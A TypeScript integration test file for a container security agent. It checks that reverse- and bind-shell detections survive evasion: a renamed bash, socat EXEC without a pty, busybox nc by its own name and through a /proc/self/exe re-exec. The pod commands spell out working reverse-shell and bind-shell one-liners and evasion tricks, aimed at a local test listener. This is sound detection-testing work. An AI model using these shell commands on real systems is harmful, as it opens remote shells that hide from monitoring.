import { spawn, type ChildProcess } from 'node:child_process';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { integrationUnavailable } from './docker-env.js';
import { startAgent, type AgentHandle, type JsonAlert } from './harness/agent.js';
import { listen, type Listener } from './harness/listener.js';
import { slowListen, type SlowListener } from './harness/slow-listener.js';
import { bridgeGateway, removeAllPods, runPod, type Pod } from './harness/pods.js';

/**
 * The reverse-shell detections tried as an attacker who knows the rules
 * would (issue 12): a renamed shell, socat EXEC without a pty both ways,
 * busybox applets run through a /proc/self/exe re-exec and by busybox's own
 * name. Each must raise its rule at its priority; the look-alikes next to
 * them must stay quiet.
 */
const TOOLS = 'vigil-test/tools:latest';
const BUSYBOX = 'vigil-test/busybox:latest';
const unavailable = integrationUnavailable();

const forPod = (pod: Pod, rule: string) => (a: JsonAlert) => a.rule === rule && a.output_fields['k8s.pod.name'] === pod.pod;

describe.skipIf(unavailable)('detections that hold against evasion', () => {
  let agent: AgentHandle;
  let gateway: string;
  const listeners: Listener[] = [];
  const clients: ChildProcess[] = [];
  const slow: SlowListener[] = [];

  beforeAll(async () => {
    gateway = bridgeGateway();
    agent = await startAgent(['--scan-interval-ms', '1000']);
  });
  afterEach(async () => {
    for (const c of clients.splice(0)) c.kill('SIGKILL');
    for (const l of slow.splice(0)) l.close();
    removeAllPods();
    for (const l of listeners.splice(0)) await l.close();
  });
  afterAll(async () => {
    removeAllPods();
    expect(await agent?.stop()).toBe(0);
  });

  async function attacker(): Promise<Listener> {
    const l = await listen(gateway);
    listeners.push(l);
    return l;
  }

  /** nc -e execs its shell right after connecting: a peer one round trip away lets it live long enough to be read. */
  async function remoteAttacker(): Promise<SlowListener> {
    const l = await slowListen(gateway);
    slow.push(l);
    return l;
  }

  async function expectNone(pod: Pod, rules: readonly string[], settleMs = 3_000): Promise<void> {
    await new Promise((r) => setTimeout(r, settleMs));
    expect(agent.alerts.filter((a) => rules.includes(a.rule) && a.output_fields['k8s.pod.name'] === pod.pod)).toEqual([]);
  }

  it('a copy of bash under another name is still a shell: Reverse Shell, Critical', async () => {
    const l = await attacker();
    const pod = runPod({
      namespace: 'evasion',
      pod: 'renamed-bash',
      container: 'app',
      image: TOOLS,
      command: ['sh', '-c', `cp /bin/bash /tmp/kworker && exec /tmp/kworker -c 'exec /tmp/kworker -i >& /dev/tcp/${gateway}/${l.port} 0>&1'`],
    });
    await l.waitForConnection(15_000);
    const alert = await agent.waitForAlert(forPod(pod, 'Reverse Shell'), 10_000);
    expect(alert.priority).toBe('Critical');
    expect(alert.output_fields).toMatchObject({ 'proc.name': 'kworker', 'fd.rport': l.port });
  });

  it('a renamed copy of a plain program with its stdio on a socket stays quiet (look-alike)', async () => {
    const l = await attacker();
    // ncat hands the socket to a copy of busybox run as `sleep` (a link to the copy): stdio on the
    // socket, a copied binary, but no shell. (Not bash's `>& /dev/tcp` then exec: bash itself
    // holds the socket on its stdio for a moment, which is a shell's output on the network.)
    const pod = runPod({
      namespace: 'evasion',
      pod: 'renamed-tool',
      container: 'app',
      image: TOOLS,
      command: ['sh', '-c', `cp /bin/busybox /tmp/kworker && ln -s /tmp/kworker /tmp/sleep && exec ncat ${gateway} ${l.port} -e '/tmp/sleep 20'`],
    });
    await l.waitForConnection(15_000);
    await expectNone(pod, ['Reverse Shell', 'Bind Shell'], 4_000);
  });

  it('socat EXEC without a pty (a socketpair): Reverse Shell, Critical, relayed by socat', async () => {
    const l = await attacker();
    const pod = runPod({
      namespace: 'evasion',
      pod: 'socat-rev',
      container: 'app',
      image: TOOLS,
      command: ['socat', `TCP:${gateway}:${l.port}`, 'EXEC:/bin/sh'],
    });
    await l.waitForConnection(15_000);
    const alert = await agent.waitForAlert(forPod(pod, 'Reverse Shell'), 10_000);
    expect(alert.priority).toBe('Critical');
    expect(alert.output_fields).toMatchObject({ 'proc.name': 'sh', 'fd.relay.name': 'socat', 'fd.rport': l.port });
  });

  it('socat TCP-LISTEN EXEC without a pty: Bind Shell, Critical, with the listening port', async () => {
    const pod = runPod({
      namespace: 'evasion',
      pod: 'socat-bind',
      container: 'app',
      image: TOOLS,
      command: ['socat', 'TCP-LISTEN:4444,reuseaddr', 'EXEC:/bin/sh'],
    });
    const ip = pod.ip();
    // The attacker connects and keeps the connection open.
    let alert: JsonAlert | undefined;
    for (let attempt = 0; attempt < 20 && !alert; attempt++) {
      const client = spawn('sh', ['-c', `sleep 30 | ncat ${ip} 4444`], { stdio: 'ignore' });
      clients.push(client);
      alert = await agent.waitForAlert(forPod(pod, 'Bind Shell'), 1_500).catch(() => undefined);
    }
    expect(alert?.priority).toBe('Critical');
    expect(alert?.output_fields).toMatchObject({ 'proc.name': 'sh', 'fd.lport': 4444, 'fd.relay.name': 'socat' });
    expect(alert?.output).toContain('listening port 4444');
    expect(agent.alerts.filter(forPod(pod, 'Reverse Shell'))).toEqual([]);
  });

  it('socat relaying data, not a shell, stays quiet (look-alike)', async () => {
    const l = await attacker();
    const pod = runPod({
      namespace: 'evasion',
      pod: 'socat-data',
      container: 'app',
      image: TOOLS,
      command: ['socat', `TCP:${gateway}:${l.port}`, 'EXEC:sleep 20'],
    });
    await l.waitForConnection(15_000);
    await expectNone(pod, ['Reverse Shell', 'Bind Shell']);
  });

  it("`busybox nc ... -e sh` by busybox's own name: Netcat Remote Code Execution, Warning, and the shell is a Reverse Shell", async () => {
    const l = await remoteAttacker();
    const pod = runPod({
      namespace: 'evasion',
      pod: 'busybox-nc',
      container: 'app',
      image: BUSYBOX,
      command: ['busybox', 'nc', gateway, String(l.port), '-e', 'sh'],
    });
    l.release();
    await l.connected(15_000);
    const nc = await agent.waitForAlert(forPod(pod, 'Netcat Remote Code Execution in Container'), 10_000);
    expect(nc.priority).toBe('Warning');
    const shell = await agent.waitForAlert(forPod(pod, 'Reverse Shell'), 10_000);
    expect(shell.priority).toBe('Critical');
    // The applet is a network tool, whatever name busybox ran under.
    const tool = await agent.waitForAlert(forPod(pod, 'Network Tool Launched in Container'), 10_000);
    expect(tool.output_fields['proc.name']).toBe('busybox');
  });

  it('nc run through a /proc/self/exe re-exec (busybox sh, exec -a): Netcat Remote Code Execution with proc.name nc', async () => {
    const l = await remoteAttacker();
    const pod = runPod({
      namespace: 'evasion',
      pod: 'busybox-reexec',
      container: 'app',
      image: BUSYBOX,
      command: ['sh', '-c', `exec -a nc /proc/self/exe ${gateway} ${l.port} -e sh`],
    });
    l.release();
    await l.connected(15_000);
    const nc = await agent.waitForAlert(forPod(pod, 'Netcat Remote Code Execution in Container'), 10_000);
    expect(nc.priority).toBe('Warning');
    expect(nc.output_fields['proc.name']).toBe('nc');
    await agent.waitForAlert(forPod(pod, 'Reverse Shell'), 10_000);
    await agent.waitForAlert(forPod(pod, 'Network Tool Launched in Container'), 10_000);
  });

  it('busybox nc without -e, listening and serving a file, stays quiet (look-alike)', async () => {
    const pod = runPod({
      namespace: 'evasion',
      pod: 'busybox-serve',
      container: 'app',
      image: BUSYBOX,
      command: ['sh', '-c', 'busybox nc -l -p 8080 < /etc/passwd; sleep 5'],
    });
    const ip = pod.ip();
    await new Promise((r) => setTimeout(r, 500));
    spawn('ncat', ['--recv-only', '-w', '2', ip, '8080'], { stdio: 'ignore' });
    await expectNone(pod, ['Reverse Shell', 'Bind Shell', 'Netcat Remote Code Execution in Container']);
    // Not a shell, but still a network tool started in a container: noted at Notice.
    await agent.waitForAlert(forPod(pod, 'Network Tool Launched in Container'), 10_000);
  });
});
